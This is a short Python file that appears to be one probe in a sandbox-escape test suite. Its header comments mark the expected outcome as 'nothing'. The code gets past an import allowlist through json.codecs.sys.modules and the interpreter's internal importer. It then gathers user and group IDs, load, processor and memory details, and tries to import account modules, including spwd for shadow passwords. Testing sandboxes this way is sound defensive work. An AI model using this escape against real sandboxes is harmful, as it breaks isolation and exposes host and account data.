# trick: learn about users, groups, limits, load, processors and memory of the host
# want: nothing
# native: finds


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def run(ctx):
    posix, os, found = reach("posix"), reach("os"), []
    for name in ("getuid", "geteuid", "getgid", "getgroups", "getlogin", "getppid", "getpgrp", "getloadavg", "sched_getaffinity", "getresuid", "getsid"):
        for args in ((), (0,)):
            try:
                found.append(f"{name}: {getattr(posix, name)(*args)}")
            except (AttributeError, OSError, TypeError):
                pass
    if (os.cpu_count() or 1) > 1:
        found.append(f"{os.cpu_count()} processors")
    for key in ("SC_NPROCESSORS_ONLN", "SC_PHYS_PAGES", "SC_AVPHYS_PAGES"):
        try:
            if posix.sysconf(key) > 1:
                found.append(f"{key} {posix.sysconf(key)}")
        except (AttributeError, OSError, ValueError):
            pass
    for name in ("pwd", "grp", "spwd", "resource", "syslog", "nis", "winreg"):
        try:
            reach(name)
            found.append("module " + name)
        except (ImportError, OSError):
            pass
    return found
